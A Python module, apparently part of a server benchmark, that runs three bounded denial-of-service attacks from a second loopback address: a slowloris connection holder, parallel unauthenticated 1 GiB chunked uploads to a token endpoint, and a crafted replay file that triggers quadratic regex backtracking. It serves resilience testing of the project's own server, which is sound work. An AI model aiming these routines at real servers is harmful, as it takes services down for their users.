"""Attacks on a server, each bounded in time, to run in a process of their own
(``_load.InProcess``) while a benchmark measures a normal client beside it;
``source`` is the local address to attack from (another loopback address than
the normal client's, as an attacker is another machine)."""

from __future__ import annotations

import asyncio
import socket
import time


def other_loopback() -> str | None:
    """127.0.0.2 where this machine can send from it (Linux), else None."""
    with socket.socket() as sock:
        try:
            sock.bind(("127.0.0.2", 0))
        except OSError:
            return None
    return "127.0.0.2"


HALF_REQUEST = b"GET /api/tournaments/active HTTP/1.1\r\nHost: victim\r\n"


async def slow_loris(
    host: str,
    port: int,
    connections: int,
    seconds: float,
    dribble: float = 2.0,
    source: str | None = None,
) -> dict[str, int]:
    """Hold ``connections`` connections that each send half a request, then one
    more header line every ``dribble`` seconds (so a timeout per read never
    fires); reopen any the server closes. Returns counts."""
    counts = {"opened": 0, "closed_by_server": 0, "refused": 0}
    deadline = time.monotonic() + seconds
    local = (source, 0) if source else None

    async def hold() -> None:
        while time.monotonic() < deadline:
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(host, port, local_addr=local),
                    max(0.1, deadline - time.monotonic()),
                )
            except (OSError, asyncio.TimeoutError):
                counts["refused"] += 1
                await asyncio.sleep(0.2)
                continue
            counts["opened"] += 1
            try:
                writer.write(HALF_REQUEST)
                while time.monotonic() < deadline:
                    try:
                        data = await asyncio.wait_for(reader.read(1024), dribble)
                    except asyncio.TimeoutError:
                        writer.write(b"X-Slow: 1\r\n")
                        continue
                    if not data:
                        counts["closed_by_server"] += 1
                        break
            except OSError:
                counts["closed_by_server"] += 1
            finally:
                writer.close()
            await asyncio.sleep(0.05)

    await asyncio.gather(*(hold() for _ in range(connections)))
    return counts


async def oversized_bodies(
    host: str, port: int, bodies: int, seconds: float, source: str | None = None
) -> dict[str, int]:
    """``bodies`` parallel chunked multipart uploads of up to 1 GiB each to
    ``obtain_token`` (no Content-Length, no credentials), written as fast as the
    server reads them, until the server answers or closes, or time is up."""
    counts = {"sent_mib": 0, "answered": 0, "closed": 0}
    deadline = time.monotonic() + seconds
    chunk = b"0" * 65536
    framed = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"

    async def send_one() -> None:
        try:
            local = (source, 0) if source else None
            reader, writer = await asyncio.open_connection(host, port, local_addr=local)
        except OSError:
            counts["closed"] += 1
            return
        writer.write(
            b"POST /api/obtain_token HTTP/1.1\r\nHost: victim\r\n"
            b"Content-Type: multipart/form-data; boundary=x\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        head = b'--x\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n'
        writer.write(f"{len(head):x}\r\n".encode() + head + b"\r\n")
        sent = 0
        answer: asyncio.Task[bytes] = asyncio.ensure_future(reader.read(1024))
        try:
            while sent < 2**30 and time.monotonic() < deadline and not answer.done():
                writer.write(framed)
                sent += len(chunk)
                await asyncio.wait_for(writer.drain(), max(0.1, deadline - time.monotonic()))
        except (OSError, asyncio.TimeoutError):
            pass
        counts["sent_mib"] += sent >> 20
        if answer.done() and not answer.cancelled() and answer.exception() is None:
            counts["answered" if answer.result() else "closed"] += 1
        answer.cancel()
        writer.close()

    await asyncio.gather(*(send_one() for _ in range(bodies)))
    return counts


def crafted_avf(template: bytes, key: str, digits: int = 40_000) -> bytes:
    """An AVF replay whose version line holds ``digits`` digits (a regex with
    nested repetition takes quadratic time on it), keyed for ``key``."""
    skin = template.index(b"Skin:")
    line_end = template.index(b"\r", skin)
    return template[: line_end + 1] + key.encode() + b"\r" + b"1" * digits
